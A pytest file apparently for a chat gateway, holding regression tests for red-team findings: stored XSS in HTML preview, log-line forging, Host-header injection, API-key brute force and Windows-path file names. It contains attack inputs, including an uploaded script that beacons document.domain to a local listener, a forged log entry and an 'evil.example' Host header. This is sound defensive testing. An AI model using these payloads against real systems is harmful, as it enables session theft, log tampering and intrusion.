"""Security findings of issue 12's red-team pass, each against a real gateway on 127.0.0.1.

- An uploaded .html previewed with download_doc ran its script on the gateway's origin (stored
  XSS): proven in a real headless browser (Debian's chromium) that it no longer does.
- A client-chosen JSON field name forged log lines (a newline) and blew one up (10,000 names).
- The ``Host`` header was echoed into kb_chat's reference links and /server/configs.
- Wrong API keys could be tried as fast as the network allowed.
- A Windows path as an upload's file name was silently cut to its base name.
"""

from __future__ import annotations

import asyncio
import json
import re
import shutil
import subprocess
import tempfile
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from tests.conftest import SIM_MODEL, Server, chat, start_gateway
from tests.support.metrics import value

KB = "hostile"
MARKER = "PW-NED"
"""What the uploaded page's script writes into its title; built at run time from two halves, so
the page's source (which a safe preview shows as text) never holds it."""


@pytest.fixture(scope="module")
def gw() -> Iterator[Server]:
    """A gateway with the embedded engine, no API keys, logging INFO in text format."""
    server = start_gateway({"CHATFLEET_SERVER__LOG_LEVEL": "info"})
    yield server
    server.proc.terminate()


@pytest.fixture(scope="module")
def kb(gw: Server) -> str:
    created = httpx.post(f"{gw.url}/knowledge_base/create_knowledge_base",
                         json={"knowledge_base_name": KB}, timeout=10).json()
    assert created["code"] == 200, created
    return KB


def _upload(gw: Server, *files: tuple[str, bytes]) -> dict:
    response = httpx.post(f"{gw.url}/knowledge_base/upload_docs", data={"knowledge_base_name": KB},
                          files=[("files", f) for f in files], timeout=60)
    assert response.status_code == 200, response.text
    return response.json()


class _Beacons:
    """A test-owned HTTP listener on 127.0.0.1: the paths a page's script requested."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _chromium() -> str:
    path = shutil.which("chromium") or shutil.which("chromium-browser")
    if path is None:
        pytest.skip("chromium is not installed (scripts/test.sh installs Debian's chromium with "
                    "apt-get; without root or apt it cannot): the stored-XSS proof needs a real "
                    "browser")
    return path


def _dom(browser: str, url: str) -> str:
    """The DOM chromium (headless, as root) has for ``url`` after its scripts ran (2 s budget)."""
    with tempfile.TemporaryDirectory(prefix="chromium-") as profile:
        result = subprocess.run(
            [browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
             f"--user-data-dir={profile}", "--virtual-time-budget=2000", "--dump-dom", url],
            capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 0, result.stderr[-2000:]
    return result.stdout


def test_a_previewed_html_file_runs_no_script_in_a_real_browser(gw: Server, kb: str) -> None:
    browser = _chromium()
    beacons = _Beacons()
    try:
        page = (f"<html><head><title>a page</title></head><body><p>stored page</p><script>"
                f"document.title = ['PW', 'NED'].join('-');"
                f"fetch('{beacons.url}/beacon?' + document.domain, {{mode: 'no-cors'}});"
                f"</script></body></html>").encode()
        assert _upload(gw, ("evil.html", page))["data"]["failed_files"] == {}
        base = f"{gw.url}/knowledge_base/download_doc?knowledge_base_name={kb}&file_name=evil.html"

        dom = _dom(browser, base + "&preview=true")
        assert "stored page" in dom, f"chromium did not show the preview: {dom[:500]}"
        assert MARKER not in dom, "the uploaded page's script ran on the gateway's origin"
        assert "&lt;script&gt;" in dom, "the preview shows the page's source as text"

        preview = httpx.get(base + "&preview=true", timeout=10)
        assert preview.status_code == 200 and preview.content == page
        assert preview.headers["content-type"] == "text/plain; charset=utf-8"
        assert preview.headers["content-disposition"].startswith("inline;")
        assert preview.headers["x-content-type-options"] == "nosniff"
        assert preview.headers["content-security-policy"] == "sandbox; default-src 'none'"
    finally:
        beacons.close()
    assert beacons.hits == [], f"the page's script reached the network: {beacons.hits}"


def test_downloads_are_attachments_and_previews_text_both_with_an_rfc6266_name(
        gw: Server, kb: str) -> None:
    name = "报告 q3; 100%.md"
    assert _upload(gw, (name, b"# Q3\n\n<script>alert(1)</script> numbers"))[
        "data"]["failed_files"] == {}
    for preview in (False, True):
        response = httpx.get(f"{gw.url}/knowledge_base/download_doc", params={
            "knowledge_base_name": kb, "file_name": name, "preview": preview}, timeout=10)
        assert response.status_code == 200
        disposition = response.headers["content-disposition"]
        kind = "inline" if preview else "attachment"
        assert disposition == (f'{kind}; filename="__ q3; 100_.md"; filename*=UTF-8\'\''
                               "%E6%8A%A5%E5%91%8A%20q3%3B%20100%25.md")
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["content-security-policy"] == "sandbox; default-src 'none'"
        assert response.headers["content-type"].startswith(
            "text/plain" if preview else "text/markdown")


def _log_lines(gw: Server, since: int) -> list[str]:
    return gw.proc.log_text()[since:].splitlines()


def test_unknown_field_names_neither_forge_log_lines_nor_blow_one_up(gw: Server) -> None:
    forged = "x\n2026-01-01 00:00:00,000 ERROR chatfleet.api.auth: FORGED admin logged in"
    start = len(gw.proc.log_text())
    response = httpx.post(f"{gw.v1}/chat/completions", json=chat(1, **{forged: 1}), timeout=30)
    assert response.status_code == 200, response.text
    fields = {f"unknown_field_{i:05d}": i for i in range(10_000)}
    response = httpx.post(f"{gw.v1}/chat/completions", json=chat(1, **fields), timeout=30)
    assert response.status_code == 200, response.text

    def logged() -> list[str]:
        return [line for line in _log_lines(gw, start) if "unknown request field" in line]
    deadline = time.monotonic() + 10
    while len(logged()) < 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    lines = _log_lines(gw, start)
    assert not any(line.startswith("2026-01-01 00:00:00,000") for line in lines), (
        "a forged line: " + "\n".join(line[:300] for line in lines))
    first, many = logged()
    assert "'x\\n2026-01-01 00:00:00,000 ERROR chatfleet.api.auth: FORGED" in first
    assert "10000 unknown request field(s)" in many and "and 9990 more" in many
    assert len(many.encode()) < 2048, f"a {len(many.encode())}-byte log line"


def test_the_host_header_reaches_no_link_and_no_configuration(gw: Server, kb: str) -> None:
    _upload(gw, ("drain.txt", b"SIGTERM drains the gateway: queued requests finish first."))
    evil = {"Host": "evil.example"}
    answer = httpx.post(f"{gw.url}/chat/kb_chat", headers=evil, json={
        "query": "what does SIGTERM do", "kb_name": kb, "stream": False, "return_direct": True,
        "model": SIM_MODEL}, timeout=30).json()
    links = re.findall(r"\]\(([^)]*)\)", " ".join(answer["docs"]))
    assert links and all(link.startswith("/knowledge_base/download_doc?") for link in links), links
    configs = httpx.post(f"{gw.url}/server/configs", headers=evil, timeout=10).json()
    assert configs["api_address"] == gw.url
    assert "evil.example" not in json.dumps(answer) + json.dumps(configs)


def test_a_configured_public_url_is_the_base_of_links_and_the_api_address(tmp_path: Path) -> None:
    server = start_gateway({"CHATFLEET_SERVER__PUBLIC_URL": "https://chat.example.com/api/"})
    try:
        httpx.post(f"{server.url}/knowledge_base/create_knowledge_base",
                   json={"knowledge_base_name": KB}, timeout=10)
        _upload(server, ("drain.txt", b"SIGTERM drains the gateway: queued requests finish."))
        evil = {"Host": "evil.example"}
        answer = httpx.post(f"{server.url}/chat/kb_chat", headers=evil, json={
            "query": "what does SIGTERM do", "kb_name": KB, "stream": False,
            "return_direct": True}, timeout=30).json()
        assert answer["docs"][0].startswith(
            "出处 [1] [drain.txt](https://chat.example.com/api/knowledge_base/download_doc?"
            f"knowledge_base_name={KB}&file_name=drain.txt)")
        configs = httpx.post(f"{server.url}/server/configs", headers=evil, timeout=10).json()
        assert configs["api_address"] == "https://chat.example.com/api"
    finally:
        server.proc.terminate()


@pytest.mark.parametrize("sent", ["C:\\Users\\me\\x.txt", "\\\\srv\\share\\x.txt"])
def test_a_windows_path_as_a_file_name_is_refused_not_cut_to_its_base_name(
        gw: Server, kb: str, sent: str) -> None:
    failed = _upload(gw, (sent, b"a file sent with its whole path"))["data"]["failed_files"]
    assert sent in failed, failed
    assert "is a path" in failed[sent] and "'x.txt'" in failed[sent], failed[sent]
    listed = httpx.get(f"{gw.url}/knowledge_base/list_files",
                       params={"knowledge_base_name": kb}, timeout=10).json()["data"]
    assert "x.txt" not in listed


async def test_wrong_keys_are_limited_per_address_before_any_comparison() -> None:
    """Burst 5, 1 per second: the sixth wrong key in a row is a 429 with Retry-After, and so is
    the right key from the same address until the bucket refills; the metric counts it."""
    key = "sk-right-" + "k" * 32
    server = start_gateway({"CHATFLEET_API_KEYS": key, "CHATFLEET_AUTH__FAILED_KEYS_BURST": "5",
                            "CHATFLEET_AUTH__FAILED_KEYS_PER_S": "1"})
    try:
        async with httpx.AsyncClient(base_url=server.url, timeout=10) as client:
            wrong = {"Authorization": "Bearer sk-guess"}
            statuses = [(await client.get("/v1/models", headers=wrong)).status_code
                        for _ in range(5)]
            assert statuses == [401] * 5
            refused = await client.get("/v1/models", headers=wrong)
            assert refused.status_code == 429, refused.text
            error = refused.json()["error"]
            assert error["type"] == "rate_limit_exceeded"
            assert "too many wrong API keys from this address" in error["message"]
            assert int(refused.headers["retry-after"]) >= 1
            right = await client.get("/v1/models", headers={"Authorization": f"Bearer {key}"})
            assert right.status_code == 429, "the address is held back whatever key it sends"
            chatchat = await client.get("/knowledge_base/list_knowledge_bases", headers=wrong)
            assert chatchat.status_code == 429 and chatchat.json()["code"] == 429
            assert (await client.get("/livez")).status_code == 200  # probes need no key
            metrics = (await client.get("/metrics")).text
            assert value(metrics, "chatfleet_auth_rejections_total",
                         reason="too_many_failures") == 3
            assert value(metrics, "chatfleet_auth_rejections_total", reason="invalid") == 5

            spoofed = await client.get("/v1/models", headers={
                "Authorization": f"Bearer {key}", "X-Forwarded-For": "203.0.113.9"})
            assert spoofed.status_code == 429, "X-Forwarded-For is not believed by default"

            t0 = time.monotonic()
            while (await client.get("/v1/models", headers={
                    "Authorization": f"Bearer {key}"})).status_code == 429:
                assert time.monotonic() - t0 < 5, "the address never got another try"
                await asyncio.sleep(0.1)
    finally:
        server.proc.terminate()
